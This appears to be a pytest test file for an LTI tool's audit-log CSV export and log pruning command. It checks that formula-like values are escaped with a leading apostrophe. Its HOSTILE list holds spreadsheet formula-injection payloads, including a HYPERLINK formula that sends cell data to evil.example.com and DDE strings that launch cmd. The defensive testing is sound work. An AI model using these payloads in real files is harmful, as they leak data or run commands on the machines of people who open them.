"""Launch log hardening: spreadsheet-safe CSV, query strings that cannot break the pages."""

import csv
import io

import pytest

from lti_tool.models import LaunchType, LTILaunchLog

from .lms import INSTRUCTOR

HOSTILE = ['=HYPERLINK("https://evil.example.com/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+1+cmd|' /C calc'!A0", "-2+3", "\tTAB=1", "\rCR=1"]


def export(admin, query="") -> list[list[str]]:
    response = admin.get(f"/audit/export.csv{query}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_lms_text_from_a_real_launch_cannot_run_in_a_spreadsheet(admin, lms, browser):
    launched = lms.launch(browser, roles=[INSTRUCTOR],
                          context={"id": "24", "label": "X", "title": HOSTILE[0]},
                          resource_link={"id": "57", "title": HOSTILE[1]},
                          ext={"lms": "moodle-2", "user_username": "@admin"})
    assert launched.status_code in (200, 302, 303), launched.data[:500]
    header, row = export(admin)
    cells = dict(zip(header, row, strict=True))
    assert cells["course"] == "'" + HOSTILE[0], "reads as the same text, never as a formula"
    assert cells["resource_link"] == "'" + HOSTILE[1]
    assert not cells["user"].startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("message", HOSTILE)
def test_every_formula_start_in_a_log_row_is_neutralised(admin, db, make_platform, message):
    platform = make_platform(name=message)
    db.session.add(LTILaunchLog(platform_id=platform.id, success=False, error_message=message,
                                error_category="expired", launch_type=LaunchType.RESOURCE_LINK,
                                ip_address="203.0.113.7"))
    db.session.commit()
    header, row = export(admin)
    cells = dict(zip(header, row, strict=True))
    assert cells["platform"] == cells["error_message"] == "'" + message
    assert cells["id"].isdigit() and cells["ip_address"] == "203.0.113.7", "plain as before"


def test_ordinary_text_is_written_as_is(admin, db, make_platform):
    platform = make_platform(name="Moodle 'quoted' – ünïcode")
    db.session.add(LTILaunchLog(platform_id=platform.id, success=False,
                                error_message="The id_token expired 75 s ago.",
                                launch_type=LaunchType.RESOURCE_LINK))
    db.session.commit()
    header, row = export(admin)
    cells = dict(zip(header, row, strict=True))
    assert cells["platform"] == "Moodle 'quoted' – ünïcode"
    assert cells["error_message"] == "The id_token expired 75 s ago."


@pytest.mark.parametrize("older_than, words", [("1d", "1 day"), ("90d", "90 days"),
                                               ("12h", "12 hours"), ("1h", "1 hour"),
                                               ("30m", "30 minutes"), ("36h", "1 day 12 hours")])
def test_prune_says_the_duration_as_written(runner, older_than, words):
    result = runner.invoke(args=["audit", "prune", "--older-than", older_than])
    assert result.exit_code == 0, result.output
    assert result.output == f"Removed 0 launch log entries older than {words}.\n"


def test_prune_defaults_to_the_retention_setting(app, runner):
    app.config["AUDIT_RETENTION_DAYS"] = 30
    result = runner.invoke(args=["audit", "prune"])
    assert "older than 30 days." in result.output
